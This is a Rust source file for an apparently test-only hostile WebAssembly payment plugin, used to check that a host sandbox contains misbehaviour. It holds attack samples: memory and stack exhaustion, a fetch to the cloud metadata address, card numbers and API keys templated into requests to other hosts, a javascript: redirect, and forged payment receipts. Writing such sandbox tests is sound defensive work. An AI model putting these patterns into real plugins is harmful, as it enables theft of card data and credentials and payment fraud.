//! Never installed: what a plugin must not be able to do. Tests pick a `behaviour` by a setting and see what the host makes of it.

use sdk::method::{
    Authenticated, Description, Echo, Form, Guarantee, Guest, HttpMethod, Move, News, Outcome, Receipt, Refusal, Request, Step, Task, Verb, finished, setting,
    unknown,
};

/// The plugin.
pub struct Hostile;

#[cfg(target_arch = "wasm32")]
sdk::payment_method!(Hostile);

impl Guest for Hostile {
    fn describe() -> Description {
        Description { name: "hostile".into(), version: env!("CARGO_PKG_VERSION").into() }
    }

    fn start(task: Task) -> Step {
        match setting(&task, "behaviour") {
            "loop" => loop {
                core::hint::black_box(0);
            },
            "bomb" => bomb(),
            "stack" => finished(Outcome::Unknown(deep(0).to_string())),
            "panic" => panic!("on purpose"),
            "giant" => finished(Outcome::Unknown("x".repeat(10 << 20))),
            "giant-list" => Step {
                next: Move::Present(Form { url: "https://acquirer.example/".into(), fields: vec![(String::new(), String::new()); 100_000] }),
                memory: vec![],
            },
            "giant-memory" => Step { next: Move::Redirect("https://acquirer.example/".into()), memory: vec![1; 60_000] },
            "secrets" => finished(Outcome::Unknown(format!("{:?}", task.settings))),
            "stranger" => fetch("https://stranger.example/", Some("{}")),
            "plain-http" => fetch("http://acquirer.example/", Some("{}")),
            "private" => fetch("https://169.254.169.254/latest/meta-data", None),
            "send-away" => away("https://stranger.example/"),
            "send-script" => away("javascript:alert(1)"),
            "away-then-card" => away("https://acquirer.example/3ds"),
            "endless" | "card" => fetch(&here(&task), Some(r#"{"number":"{{card.number}}","cvv":"{{card.cvv}}"}"#)),
            "card-in-address" => fetch(&format!("{}{{{{card.number}}}}", here(&task)), None),
            "key-in-address" => fetch(&format!("{}?key={{{{secret.api_key}}}}", here(&task)), None),
            "unknown-secret" => fetch(&here(&task), Some("{{secret.other}}")),
            "nonsense-code" => finished(Outcome::Refused(Refusal { code: "00000".into(), reason: "no".into(), echo: None })),
            "absent" => finished(Outcome::Absent(task.original.map_or(task.operation, |original| original.operation))),
            "absent-stranger" => finished(Outcome::Absent("0192f0c1-6d5e-7c3a-9a50-000000000000".into())),
            lie => accepted(&task, lie),
        }
    }

    fn resume(task: Task, _memory: Vec<u8>, news: News) -> Step {
        match (setting(&task, "behaviour"), news) {
            ("away-then-card", _) => fetch(&here(&task), Some(r#"{"number":"{{card.number}}"}"#)),
            ("endless", _) => fetch(&here(&task), None),
            (_, News::Answered(answer)) => unknown(format!("{} {}", answer.status, answer.body)),
            _ => unknown("?"),
        }
    }
}

fn here(task: &Task) -> String {
    format!("{}/", setting(task, "endpoint"))
}

fn fetch(url: &str, body: Option<&str>) -> Step {
    let headers = vec![("Authorization".into(), "Bearer {{secret.api_key}}".into())];
    let method = if body.is_some() { HttpMethod::Post } else { HttpMethod::Get };
    Step { next: Move::Fetch(Request { method, url: url.into(), headers, body: body.map(Into::into) }), memory: b"asked".to_vec() }
}

fn away(url: &str) -> Step {
    Step { next: Move::Redirect(url.into()), memory: b"away".to_vec() }
}

/// An acceptance that lies about one thing.
fn accepted(task: &Task, lie: &str) -> Step {
    let about = task.original.as_ref().filter(|_| task.verb == Verb::Inquire);
    let mut echo = Echo {
        operation: about.map_or(&task.operation, |original| &original.operation).clone(),
        contract: task.contract.clone(),
        verb: about.map_or(task.verb, |original| original.verb),
        amount: task.amount,
        currency: task.currency.clone(),
    };
    match lie {
        "other-amount" => echo.amount += 1,
        "huge-amount" => echo.amount = u64::MAX,
        "other-currency" => echo.currency = "USD".into(),
        "other-contract" => echo.contract.push('1'),
        "other-operation" => echo.operation = "0192f0c1-6d5e-7c3a-9a50-000000000000".into(),
        "other-verb" => echo.verb = Verb::Refund,
        "other-refusal" => {
            echo.amount += 1;
            return finished(Outcome::Refused(Refusal { code: "51".into(), reason: "no".into(), echo: Some(echo) }));
        }
        _ => (),
    }
    let authorisation = Some(if lie == "long-number" { "9".repeat(1000) } else { "123456".into() });
    finished(Outcome::Accepted(Receipt {
        echo,
        authorisation,
        acquirer_reference: Some("H1".into()),
        authenticated: Authenticated::None,
        guarantee: Guarantee::No,
        set_aside: set_aside(task, lie),
    }))
}

/// Lines that a chunk leaves out, or claims to.
fn set_aside(task: &Task, lie: &str) -> Vec<(String, String)> {
    let first = || task.lines.first().map(|line| line.operation.clone()).unwrap_or_default();
    match lie {
        "aside" => vec![(first(), "94".into())],
        "aside-without-reason" => vec![(first(), "00000".into())],
        "aside-stranger" => vec![("0192f0c1-6d5e-7c3a-9a50-000000000000".into(), "25".into())],
        "aside-twice" => vec![(first(), "25".into()), (first(), "94".into())],
        "aside-nonsense" => vec![("first".into(), "25".into())],
        "aside-flood" => vec![(first(), "25".into()); 2_000],
        _ => vec![],
    }
}

fn bomb() -> Step {
    let mut hoard = Vec::new();
    loop {
        hoard.push(vec![1u8; 1 << 20]);
        core::hint::black_box(&hoard);
    }
}

#[expect(unconditional_recursion, reason = "that is the attack")]
fn deep(n: u64) -> u64 {
    let frame = [n; 64];
    core::hint::black_box(&frame);
    deep(n + 1) + frame[3]
}
